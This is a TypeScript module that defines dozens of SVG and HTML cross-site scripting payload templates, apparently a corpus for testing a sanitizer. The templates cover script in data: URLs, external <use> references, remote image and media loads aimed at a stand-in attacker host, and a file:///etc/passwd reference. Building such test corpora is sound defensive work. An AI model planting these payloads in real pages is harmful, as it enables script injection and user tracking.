import { base64, js, SHAPE, SVG_OPEN, type Template } from './payloadParts.ts';
import type { XssFamily } from './XssVector.ts';
import { XSS_EVIL_HOST, XSS_EVIL_ORIGIN } from './xssTargets.ts';

/** Payloads that load something: `data:` URLs, external `<use>`, remote images and media. */
export const URL_PAYLOADS: Record<
  Extract<XssFamily, 'data-url' | 'external-use' | 'remote-image'>,
  Record<string, Template>
> = {
  'data-url': {
    'data-url-a-html': (id) =>
      `${SVG_OPEN}<a href="data:text/html,&lt;script&gt;${js(id)}&lt;/script&gt;">${SHAPE}</a></svg>`,
    'data-url-a-base64': (id) =>
      `${SVG_OPEN}<a href="data:text/html;base64,${base64(`<script>${js(id)}</script>`)}">${SHAPE}</a></svg>`,
    'data-url-use-svg': (id) =>
      `${SVG_OPEN}<use href="data:image/svg+xml;base64,${base64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="${js(id)}"/></svg>`)}#x"/></svg>`,
    'data-url-image-svg-script': (id) =>
      `${SVG_OPEN}<image href="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js(id)}"/>`)}"/></svg>`,
    'data-url-iframe-src': (id) => `<iframe src="data:text/html,<script>${js(id)}</script>"></iframe>`,
    'data-url-object': (id) => `<object data="data:text/html,<script>${js(id)}</script>"></object>`,
    'data-url-embed-svg': (id) =>
      `<embed src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js(id)}"/>`)}">`,
    'data-url-script-src': (id) => `<svg><script href="data:,${js(id)}"/></svg>`,
    'data-url-xlink-use': (id) =>
      `${SVG_OPEN}<use xlink:href="data:image/svg+xml,&lt;svg id='y' xmlns='http://www.w3.org/2000/svg'&gt;&lt;a id='y'/&gt;&lt;/svg&gt;#y" onload="${js(id)}"/></svg>`,
  },
  'external-use': {
    'use-href-remote': (id) => `${SVG_OPEN}<use href="${XSS_EVIL_ORIGIN}/${id}.svg#icon"/></svg>`,
    'use-xlink-href-remote': (id) => `${SVG_OPEN}<use xlink:href="${XSS_EVIL_ORIGIN}/${id}.svg#icon"/></svg>`,
    'use-protocol-relative': (id) => `${SVG_OPEN}<use href="//${XSS_EVIL_HOST}/${id}.svg#icon"/></svg>`,
    'use-leading-space': (id) => `${SVG_OPEN}<use href="  ${XSS_EVIL_ORIGIN}/${id}.svg#icon"/></svg>`,
    'use-both-hrefs': (id) =>
      `${SVG_OPEN}<path id="p" d="M0 0h9v9z"/><use href="#p" xlink:href="${XSS_EVIL_ORIGIN}/${id}.svg#icon"/></svg>`,
    'use-entity-slashes': (id) =>
      `${SVG_OPEN}<use href="https:&#x2F;&#x2F;${XSS_EVIL_HOST}/${id}.svg#a"/></svg>`,
    'use-file-scheme': () => `${SVG_OPEN}<use href="file:///etc/passwd#a"/></svg>`,
    'use-relative-path': (id) => `${SVG_OPEN}<use href="/${id}/sprite.svg#a"/></svg>`,
    'use-fragment-escape': (id) => `${SVG_OPEN}<use href="#a' onload='${js(id)}"/></svg>`,
    'use-symbol-with-handler': (id) =>
      `${SVG_OPEN}<symbol id="s"><rect width="9" height="9" onclick="${js(id)}"/></symbol><use href="#s"/></svg>`,
  },
  'remote-image': {
    'image-href-remote': (id) =>
      `${SVG_OPEN}<image href="${XSS_EVIL_ORIGIN}/${id}.png" width="9" height="9"/></svg>`,
    'image-xlink-href-remote': (id) =>
      `${SVG_OPEN}<image xlink:href="${XSS_EVIL_ORIGIN}/${id}.png" width="9" height="9"/></svg>`,
    'image-protocol-relative': (id) =>
      `${SVG_OPEN}<image href="//${XSS_EVIL_HOST}/${id}.png" width="9" height="9"/></svg>`,
    'image-feimage-remote': (id) => `${SVG_OPEN}<feImage href="${XSS_EVIL_ORIGIN}/${id}.png"/></svg>`,
    'image-filter-feimage': (id) =>
      `${SVG_OPEN}<filter id="f"><feImage xlink:href="${XSS_EVIL_ORIGIN}/${id}.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
    'image-onload-remote': (id) =>
      `${SVG_OPEN}<image href="${XSS_EVIL_ORIGIN}/${id}.svg" onload="${js(id)}" width="9" height="9"/></svg>`,
    'image-html-img': (id) => `<img src="${XSS_EVIL_ORIGIN}/${id}.gif"><svg/>`,
    'image-pattern': (id) =>
      `${SVG_OPEN}<pattern id="p" width="9" height="9"><image href="${XSS_EVIL_ORIGIN}/${id}.png"/></pattern><rect fill="url(#p)" width="9" height="9"/></svg>`,
    'image-src-attribute': (id) =>
      `${SVG_OPEN}<image src="${XSS_EVIL_ORIGIN}/${id}.png" width="9" height="9"/></svg>`,
    'image-tref': (id) => `${SVG_OPEN}<tref xlink:href="${XSS_EVIL_ORIGIN}/${id}.svg#t"/></svg>`,
    'image-cursor-element': (id) => `${SVG_OPEN}<cursor xlink:href="${XSS_EVIL_ORIGIN}/${id}.png"/></svg>`,
    'image-font-face-uri': (id) =>
      `${SVG_OPEN}<font-face-uri xlink:href="${XSS_EVIL_ORIGIN}/${id}.svg#f"/></svg>`,
    'image-audio-autoplay': (id) => `<svg><audio src="${XSS_EVIL_ORIGIN}/${id}.mp3" autoplay></audio></svg>`,
    'image-video-poster': (id) => `<video poster="${XSS_EVIL_ORIGIN}/${id}.png"></video>`,
    'image-picture-srcset': (id) =>
      `<picture><source srcset="${XSS_EVIL_ORIGIN}/${id}.png"><img alt=""></picture>`,
    'image-a-ping': (id) => `${SVG_OPEN}<a href="#x" ping="${XSS_EVIL_ORIGIN}/${id}">${SHAPE}</a></svg>`,
    'image-hidden-remote': (id) =>
      `${SVG_OPEN}<image href="${XSS_EVIL_ORIGIN}/${id}.png" style="display:none" width="9" height="9"/></svg>`,
    'image-base-href': (id) => `<base href="${XSS_EVIL_ORIGIN}/${id}/"><svg/>`,
    'image-input-image': (id) => `<input type="image" src="${XSS_EVIL_ORIGIN}/${id}.png">`,
  },
};
